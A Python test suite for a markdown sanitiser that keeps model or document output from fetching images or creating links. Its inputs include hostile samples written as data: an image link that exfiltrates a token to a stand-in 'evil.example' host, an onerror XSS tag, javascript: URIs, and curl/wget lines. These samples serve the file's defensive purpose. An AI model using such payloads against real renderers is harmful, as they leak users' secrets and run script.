"""core.text.markup: model / document text renders as markdown with nothing that fetches or links.

The rendered checks parse the output again with markdown-it (CommonMark + tables) as a stand-in for
Streamlit's renderer and look at the HTML, and at the unescaped text a GFM autolinker would scan.
"""
from __future__ import annotations

import html
import re
import time

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.text.markup import MAX_INPUT_CHARS, neutralise_urls, safe_markdown, safe_text

RENDERER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
TAG = re.compile(r"<[^<>]{0,200}>")


def rendered(markdown: str) -> str:
    return RENDERER.render(markdown)


def visible_text(markdown: str) -> str:
    """The text a GFM autolinker sees: the rendered HTML without tags, entities decoded."""
    return html.unescape(TAG.sub(" ", rendered(markdown)))


def assert_inert(out: str) -> None:
    page = rendered(out)
    assert "<img" not in page and "<a " not in page and "href" not in page, page
    text = visible_text(out)
    assert "://" not in text and "www." not in text.lower() and "@" not in text, text
    assert "](http" not in out and "://" not in out


def test_images_become_their_alt_text_and_are_never_fetched():
    out = safe_markdown("結果です ![秘密](http://evil.example/exfil?d=token) と ![](https://e/x.png)")
    assert_inert(out)
    assert "秘密" in visible_text(out) and "[画像]" in visible_text(out)
    assert "evil" not in out and "exfil" not in out


def test_links_keep_their_text_and_show_the_host_as_plain_text():
    out = safe_markdown("詳しくは [こちら](https://evil.example/x?d=1) と [手順](/local) を参照")
    assert_inert(out)
    text = visible_text(out)
    assert "こちら (evil.example)" in text and "手順" in text and "?d=1" not in text


def test_reference_style_links_and_nested_brackets():
    src = "[x][1] と [[入れ子 [括弧]]](http://e/a) と ![[a]](http://e/b)\n\n[1]: http://evil.example/ref \"t\""
    out = safe_markdown(src)
    assert_inert(out)
    text = visible_text(out)
    assert "x (evil.example)" in text and "入れ子 [括弧]" in text


def test_raw_html_is_shown_as_text():
    out = safe_markdown('<img src="http://e/x.png" onerror="alert(1)">\n\n本文 <img src=x> と <b>太字</b>')
    assert_inert(out)
    assert "<img" not in out and "&lt;img" in out
    assert '<img src="http:／／e/x.png"' in visible_text(out)


def test_autolinks_bare_urls_www_and_emails_are_plain_text():
    for src in ("<http://e.example/a>", "見て https://e.example/x?d=1 ね", "WWW.Evil.example/x", "www.e.example",
                "連絡先 user@example.com", "<mailto:a@b.example>", "hTTps://e.example"):
        out = safe_markdown(src)
        assert_inert(out)
        assert visible_text(out).strip()  # the text is still shown


def test_data_and_javascript_uris_are_dropped_from_links_and_images():
    out = safe_markdown("![x](data:image/png;base64,AAAA) [y](javascript:alert(1)) [z](data:text/html,hi)")
    assert_inert(out)
    assert "data" not in out.split(" ")[0] and visible_text(out).split()[0] == "x"  # the image: its alt text only
    # markdown-it refuses javascript: and data:text links; they stay as literal, inert text
    assert "[y](javascript:alert(1))" in visible_text(out)


def test_line_breaks_lists_emphasis_tables_and_code_are_kept():
    src = ("1行目\n2行目\n\n- 項目A\n- **項目B**\n  1. 子\n\n3. 三\n4. 四\n\n> 引用\n\n"
           "| 項目 | 値 |\n|---|--:|\n| 委託料 | 50万円 |\n\n~~削除~~ *強調* `code <b>`\n\n```python\nx = 1\n```")
    page = rendered(safe_markdown(src))
    assert "1行目<br />\n2行目" in page
    assert "<li>項目A</li>" in page and "<strong>項目B</strong>" in page and "<ol>\n<li>子</li>" in page
    assert '<ol start="3">' in page and "<blockquote>" in page
    assert "<th>項目</th>" in page and '<td style="text-align:right">50万円</td>' in page
    assert "<s>削除</s>" in page and "<em>強調</em>" in page and "<code>code &lt;b&gt;</code>" in page
    assert '<code class="language-python">x = 1\n</code>' in page


def test_markdown_punctuation_in_text_stays_literal():
    src = "料金は $100 と $200、:red[赤] 1\\. 番号 &amp; 記号 \\*星\\*"
    out = safe_markdown(src)
    assert visible_text(out).strip() == "料金は $100 と $200、:red[赤] 1. 番号 & 記号 *星*"
    assert safe_markdown(out) and visible_text(safe_markdown(out)).strip() == visible_text(out).strip()


def test_urls_inside_code_are_neutralised_too():
    out = safe_markdown("`curl http://e/x` と\n\n```\nwget https://e/y\n```")
    assert "://" not in out and "<a " not in rendered(out)


def test_safe_text_is_fully_literal():
    assert safe_text("節 *1*\n![x](http://e)", single_line=True) == "節 \\*1\\* !\\[x\\]\\(http:／／e)"
    assert safe_text("第8条(損害賠償) p.12") == "第8条(損害賠償) p.12"  # ordinary text stays readable
    assert rendered(safe_text("# 見出し\n- a")) == "<p># 見出し<br />\n- a</p>\n"
    assert safe_text("警告灯") == "警告灯"
    assert_inert(safe_text("<img src=http://e> a@b.example www.e"))


def test_neutralise_urls():
    assert neutralise_urls("https://e WWW.x @") == "https:／／e WWW．x ＠"
    assert neutralise_urls("İwww.") == "İwww．"  # case folding never shifts positions


def test_very_long_input_is_cut_with_a_note_and_stays_bounded():
    hostile = ("[" * 30_000) + ("![a](http://e/x)" * 5_000)
    started = time.perf_counter()
    out = safe_markdown(hostile)
    assert time.perf_counter() - started < 30  # ~2 s here; unbounded input would grow without limit
    assert out.endswith("省略しました）") and "://" not in out
    assert len(safe_markdown("あ" * (MAX_INPUT_CHARS * 3))) < MAX_INPUT_CHARS + 100


def test_empty_and_none():
    assert safe_markdown("") == "" and safe_markdown("  \n") == "" and safe_markdown(None) == ""  # type: ignore[arg-type]


MARKUP_BITS = st.sampled_from(["![", "](", "[", "]", "(", ")", "http://e/x", "https://", "www.", "WwW.", "://", "<img ",
                               "<a href=", ">", "<", "@", "\n", "\n\n", "- ", "1. ", "> ", "`", "```", "*", "_", "|",
                               "\\", "&#58;", "&lt;", ":", "/", "data:", "[1]: http://e\n", "[1]", "画像", " ", "a"])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(MARKUP_BITS, st.text(max_size=5)), max_size=40).map("".join))
def test_property_output_never_links_or_embeds(source):
    out = safe_markdown(source)
    assert "](http" not in out and "://" not in out
    page = rendered(out)
    assert "<img" not in page and "<a " not in page
    text = visible_text(out)
    assert "://" not in text and "www." not in text.lower() and "@" not in text


PLAIN = st.text(alphabet=st.sampled_from(list("ab 1.)-+=#*_~`[]()!<>&$|:\\\n\tあ「」")), max_size=60)


@settings(max_examples=300, deadline=None)
@given(PLAIN)
def test_property_safe_text_shows_exactly_the_text(source):
    """Whatever the characters, safe_text renders as one paragraph of the same visible text."""
    body = rendered(safe_text(source)).strip()
    if body:
        assert body.startswith("<p>") and body.endswith("</p>") and body.count("<p>") == 1, body
        body = body[3:-4]
    assert not re.search(r"<(?!br />)", body), body
    shown = [line.strip() for line in html.unescape(body.replace("<br />", "")).split("\n")]
    assert "\n".join(shown).strip() == "\n".join(line.strip() for line in source.split("\n")).strip()


STRUCTURE = st.text(alphabet=st.sampled_from(list("ab 1.)-+=#~`\\\n>あ|:")), max_size=50)


def _normalised(page: str) -> str:
    page = re.sub(r' class="[^"]*"', "", page.replace("<br />\n", "\n"))  # code languages are filtered
    return re.sub(r"\s+", " ", page)


@settings(max_examples=300, deadline=None)
@given(STRUCTURE)
def test_property_structure_renders_the_same(source):
    """Without links or images, the re-emitted markdown renders like the original (line breaks kept
    as hard breaks; nested same-marker emphasis is the known exception, hence no * or _ here)."""
    assert _normalised(rendered(safe_markdown(source))) == _normalised(rendered(source))
